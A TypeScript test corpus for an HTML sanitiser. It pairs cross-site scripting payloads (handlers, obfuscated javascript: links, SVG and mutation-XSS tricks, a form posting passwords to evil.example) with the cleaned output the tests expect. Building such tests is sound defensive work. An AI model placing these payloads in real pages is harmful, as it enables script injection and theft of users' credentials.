/**
 * Payloads for the one HTML policy (contracts `content/html-policy.ts`), each with the exact HTML
 * the server's sanitiser keeps. sanitize.test.ts asserts every `clean`; the browser test
 * (e2e/html-sanitiser.e2e.ts) prints every `clean` in a bare page with no CSP and clicks its
 * links. Off-site addresses in attacks point at evil.example; what the policy keeps points at
 * the page's own origin, the embed hosts, or example.org links.
 */
export type SanitizeCase = { name: string; html: string; clean: string };

export const SANITIZE_CORPUS: readonly SanitizeCase[] = [
  // Kept as is: what the editor and the templates library write
  { name: 'editor paragraphs and marks', html: '<h2>Our mission</h2><p>We <strong>feed</strong> <em>people</em>, <u>daily</u> and <s>never</s> alone.</p>', clean: '<h2>Our mission</h2><p>We <strong>feed</strong> <em>people</em>, <u>daily</u> and <s>never</s> alone.</p>' },
  { name: 'editor text styles', html: '<p><span style="color: #0b7285; font-family: Lora">Teal Lora</span> <span style="font-size: 18px; background-color: rgb(255, 240, 200)">big</span></p>', clean: '<p><span style="color: #0b7285; font-family: Lora">Teal Lora</span> <span style="font-size: 18px; background-color: rgb(255, 240, 200)">big</span></p>' },
  { name: 'editor link in a new tab', html: '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/report">Read the report</a></p>', clean: '<p><a target="_blank" href="https://example.org/report" rel="noopener noreferrer nofollow">Read the report</a></p>' },
  { name: 'relative, mailto and tel links', html: '<p><a href="/donate">Give</a> <a href="mailto:info@example.org">Mail</a> <a href="tel:+15550100">Call</a> <a href="#faq">FAQ</a></p>', clean: '<p><a href="/donate">Give</a> <a href="mailto:info@example.org">Mail</a> <a href="tel:+15550100">Call</a> <a href="#faq">FAQ</a></p>' },
  { name: 'lists, quote, code, table', html: '<ul><li>One</li></ul><ol start="3" reversed><li value="5">Five</li></ol><blockquote cite="https://example.org/q"><p>Quote</p></blockquote><pre><code>a &lt; b</code></pre><table><thead><tr><th scope="col" colspan="2">H</th></tr></thead><tbody><tr><td rowspan="1">c</td></tr></tbody></table>', clean: '<ul><li>One</li></ul><ol start="3" reversed><li value="5">Five</li></ol><blockquote cite="https://example.org/q"><p>Quote</p></blockquote><pre><code>a &lt; b</code></pre><table><thead><tr><th scope="col" colspan="2">H</th></tr></thead><tbody><tr><td rowspan="1">c</td></tr></tbody></table>' },
  { name: 'liquid smart codes in text and addresses', html: '<p>{{ site.name }} {{ account.first_name | default: "friend" }} {% for product in category.products %}<a href="{{ product.url }}">{{ product.name }}</a>{% endfor %}</p>', clean: '<p>{{ site.name }} {{ account.first_name | default: "friend" }} {% for product in category.products %}<a href="{{ product.url }}">{{ product.name }}</a>{% endfor %}</p>' },
  { name: 'image from the library', html: '<p><img src="/media/12/river.jpg" alt="River" width="640" height="480" loading="lazy"></p>', clean: '<p><img src="/media/12/river.jpg" alt="River" width="640" height="480" loading="lazy"></p>' },
  { name: 'pasted png picture', html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', clean: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">' },
  { name: 'YouTube embed from the embed lookup', html: '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="640" height="360" title="YouTube video" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe>', clean: '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="640" height="360" title="YouTube video" frameborder="0" allowfullscreen allow="fullscreen; picture-in-picture; encrypted-media" sandbox="allow-scripts allow-same-origin allow-presentation"></iframe>' },
  { name: 'Vimeo embed', html: '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360" allowfullscreen></iframe>', clean: '<iframe src="https://player.vimeo.com/video/76979871" width="640" height="360" allowfullscreen allow="fullscreen; picture-in-picture; encrypted-media" sandbox="allow-scripts allow-same-origin allow-presentation"></iframe>' },
  // Scripts and handlers
  { name: 'script element', html: '<p>Hi</p><script>alert(1)</script>', clean: '<p>Hi</p>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script><p>after</p>', clean: '<p>after</p>' },
  { name: 'upper-case script', html: '<SCRIPT>alert(1)</SCRIPT>ok', clean: 'ok' },
  { name: 'onerror on an image', html: '<img src="/media/none.png" onerror="alert(1)">', clean: '<img src="/media/none.png">' },
  { name: 'onclick and onmouseover', html: '<p onclick="alert(1)" onmouseover="alert(2)">x</p>', clean: '<p>x</p>' },
  { name: 'onload on body', html: '<body onload="alert(1)"><p>x</p></body>', clean: '<p>x</p>' },
  { name: 'onfocus autofocus', html: '<div tabindex="0" autofocus onfocus="alert(1)">x</div>', clean: '<div>x</div>' },
  { name: 'ontoggle on details', html: '<details open ontoggle="alert(1)"><summary>s</summary>d</details>', clean: '<details open><summary>s</summary>d</details>' },
  { name: 'handler with odd separator', html: '<img src="/a.png"/onerror="alert(1)">', clean: '<img src="/a.png">' },
  { name: 'unquoted handler after slash', html: '<a href="/x"/onmouseover=alert(1)>x</a>', clean: '<a href="/x">x</a>' },
  // Obfuscated javascript: addresses
  { name: 'javascript: href', html: '<a href="javascript:alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'mixed case scheme', html: '<a href="JaVaScRiPt:alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'tab inside the scheme', html: '<a href="java\tscript:alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'newline inside the scheme', html: '<a href="java\nscript:alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'leading spaces and control characters', html: '<a href=" \u0001\u0008 javascript:alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'hex entities without semicolons', html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', clean: '<a>x</a>' },
  { name: 'named entity colon and tab', html: '<a href="javascript&colon;alert(1)">a</a><a href="java&Tab;script:alert(1)">b</a>', clean: '<a>a</a><a>b</a>' },
  { name: 'vbscript', html: '<a href="vbscript:msgbox(1)">x</a>', clean: '<a>x</a>' },
  { name: 'javascript image src', html: '<img src="javascript:alert(1)" alt="a">', clean: '<img alt="a">' },
  { name: 'javascript in blockquote cite', html: '<blockquote cite="javascript:alert(1)">q</blockquote>', clean: '<blockquote>q</blockquote>' },
  { name: 'protocol-relative link', html: '<a href="//evil.example/">x</a><a href="\\\\evil.example/">y</a>', clean: '<a>x</a><a>y</a>' },
  // data: addresses
  { name: 'data: html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', clean: '<a>x</a>' },
  { name: 'data: svg image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', clean: '<img>' },
  { name: 'data: html image', html: '<img src="data:text/html,<script>alert(1)</script>">', clean: '<img>' },
  { name: 'data: iframe', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', clean: '' },
  // SVG and MathML
  { name: 'svg onload', html: '<svg onload="alert(1)"><circle r="5"/></svg><p>after</p>', clean: '<p>after</p>' },
  { name: 'svg animate turns href into javascript', html: '<svg><a href="/safe"><animate attributeName="href" values="javascript:alert(1)" dur="60s"/><text x="20" y="20">click</text></a></svg>', clean: '' },
  { name: 'svg set turns href into javascript', html: '<svg><a href="/safe"><set attributeName="href" to="javascript:alert(1)"/><text y="20">click</text></a></svg>', clean: '' },
  { name: 'svg animate on xlink:href', html: '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="/safe"><animate attributeName="xlink:href" values="javascript:alert(1)" dur="60s"/><text y="20">click</text></a></svg>', clean: '' },
  { name: 'svg use href', html: '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;a href=javascript:alert(1)&gt;&lt;rect width=99 height=99 /&gt;&lt;/a&gt;&lt;/svg&gt;#x"/></svg>', clean: '' },
  { name: 'svg foreignObject', html: '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>', clean: '' },
  { name: 'math with link', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', clean: '' },
  // mXSS
  { name: 'math style mglyph mXSS', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', clean: '' },
  { name: 'svg style mXSS', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', clean: '' },
  { name: 'noscript title mXSS', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', clean: '' },
  { name: 'style closing inside attribute', html: '<style><a title="</style><img src=x onerror=alert(1)>"></style><p>after</p>', clean: '<img src="x">"&gt;<p>after</p>' },
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>ok', clean: 'ok' },
  { name: 'textarea breakout', html: '<textarea></textarea><img src=x onerror=alert(1)></textarea>', clean: '<img src="x">' },
  { name: 'xmp breakout', html: '<xmp><img src=x onerror=alert(1)></xmp>ok', clean: 'ok' },
  { name: 'title element', html: '<title><img src=x onerror=alert(1)></title>ok', clean: 'ok' },
  { name: 'comment breakout', html: '<!--><img src=x onerror=alert(1)>-->', clean: '<img src="x">--&gt;' },
  { name: 'cdata in html', html: '<![CDATA[<img src=x onerror=alert(1)>]]>ok', clean: 'ok' },
  { name: 'nested iframe text', html: '<iframe src="https://www.youtube.com/embed/x"><p title="</iframe><img src=x onerror=alert(1)>">in</p></iframe>', clean: '<iframe src="https://www.youtube.com/embed/x" allow="fullscreen; picture-in-picture; encrypted-media" sandbox="allow-scripts allow-same-origin allow-presentation"><p title="&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;">in</p></iframe>' },
  // Frames and embeds
  { name: 'iframe from another site', html: '<iframe src="https://evil.example/"></iframe><p>after</p>', clean: '<p>after</p>' },
  { name: 'iframe over http', html: '<iframe src="http://www.youtube.com/embed/x"></iframe>', clean: '' },
  { name: 'iframe host with a user part', html: '<iframe src="https://www.youtube.com@evil.example/"></iframe>', clean: '' },
  { name: 'iframe host as a prefix', html: '<iframe src="https://www.youtube.com.evil.example/"></iframe>', clean: '' },
  { name: 'iframe protocol-relative', html: '<iframe src="//www.youtube.com/embed/x"></iframe>', clean: '' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', clean: '' },
  { name: 'iframe own sandbox and handlers', html: '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-top-navigation allow-popups allow-forms" onload="alert(1)" allow="camera; microphone"></iframe>', clean: '<iframe src="https://player.vimeo.com/video/1" allow="fullscreen; picture-in-picture; encrypted-media" sandbox="allow-scripts allow-same-origin allow-presentation"></iframe>' },
  { name: 'object, embed, applet', html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>ok', clean: 'ok' },
  { name: 'frameset', html: '<frameset><frame src="https://evil.example/"></frameset>ok', clean: 'ok' },
  // Page-level elements
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">ok', clean: 'ok' },
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/donate">Give</a>', clean: '<a href="/donate">Give</a>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">ok', clean: 'ok' },
  { name: 'link prefetch', html: '<link rel="prefetch" href="https://evil.example/x">ok', clean: 'ok' },
  { name: 'style import', html: '<style>@import url(https://evil.example/x.css); body{background:red}</style>ok', clean: 'ok' },
  { name: 'style attribute url', html: '<p style="background-image: url(https://evil.example/x.png); color: red">x</p>', clean: '<p style="color: red">x</p>' },
  { name: 'style attribute expression and escapes', html: '<p style="width: expression(alert(1)); color: \\72 ed; font-family: a/**/b">x</p>', clean: '<p>x</p>' },
  { name: 'style attribute position overlay', html: '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">x</div>', clean: '<div>x</div>' },
  // Forms
  { name: 'form posting elsewhere', html: '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Go</button></form>', clean: 'Go' },
  { name: 'formaction on a button', html: '<button formaction="javascript:alert(1)">Click</button>', clean: 'Click' },
  { name: 'input image', html: '<input type="image" src="https://evil.example/x.png" formaction="https://evil.example/">', clean: '' },
  { name: 'isindex and keygen', html: '<isindex action="javascript:alert(1)"><keygen autofocus onfocus="alert(1)">ok', clean: 'ok' },
  // Requests off the page
  { name: 'ping on a link', html: '<a href="/about" ping="https://evil.example/track">About</a>', clean: '<a href="/about">About</a>' },
  { name: 'srcset on an image', html: '<img src="/media/1/a.png" srcset="https://evil.example/a.png 2x" alt="a">', clean: '<img src="/media/1/a.png" alt="a">' },
  { name: 'picture source', html: '<picture><source srcset="https://evil.example/a.png"><img src="/media/1/a.png" alt="p"></picture>', clean: '<img src="/media/1/a.png" alt="p">' },
  { name: 'video autoplay', html: '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>ok', clean: 'ok' },
  { name: 'audio autoplay', html: '<audio autoplay src="https://evil.example/a.mp3" onplay="alert(1)"></audio>ok', clean: 'ok' },
  { name: 'image background attribute', html: '<table background="https://evil.example/bg.png"><tr><td background="javascript:alert(1)">x</td></tr></table>', clean: '<table><tr><td>x</td></tr></table>' },
  { name: 'link target other than blank', html: '<a href="/x" target="_top">x</a><a href="/y" target="_parent">y</a>', clean: '<a href="/x">x</a><a href="/y">y</a>' },
  { name: 'target blank without rel', html: '<a href="https://example.org" target="_blank">x</a>', clean: '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>' },
  { name: 'rel with unknown tokens', html: '<a href="/x" rel="opener preload nofollow">x</a>', clean: '<a href="/x" rel="nofollow">x</a>' },
  // Other attributes
  { name: 'id and name clobbering', html: '<img name="getElementById" id="location" src="/a.png" alt="a"><a id="__proto__" name="cookie">x</a>', clean: '<img src="/a.png" alt="a"><a>x</a>' },
  { name: 'data and aria attributes', html: '<p data-bind="alert(1)" aria-label="x" contenteditable="true">x</p>', clean: '<p>x</p>' },
  { name: 'popover and command attributes', html: '<button popovertarget="x">b</button><div popover id="x" onbeforetoggle="alert(1)">p</div>', clean: 'b<div>p</div>' },
  { name: 'class and lang kept, bad dir dropped', html: '<p class="lead note" lang="en-GB" dir="sideways">x</p>', clean: '<p class="lead note" lang="en-GB">x</p>' },
  { name: 'unknown elements keep their text', html: '<marquee onstart="alert(1)">moving</marquee><blink>old</blink><custom-el>text</custom-el>', clean: 'movingoldtext' },
  { name: 'html and head wrappers', html: '<html><head><title>T</title><script>alert(1)</script></head><body><p>Body</p></body></html>', clean: '<p>Body</p>' },
  { name: 'unclosed tags and stray brackets', html: '<p>a < b and c > d<b>bold', clean: '<p>a &lt; b and c &gt; d<b>bold</b></p>' },
];
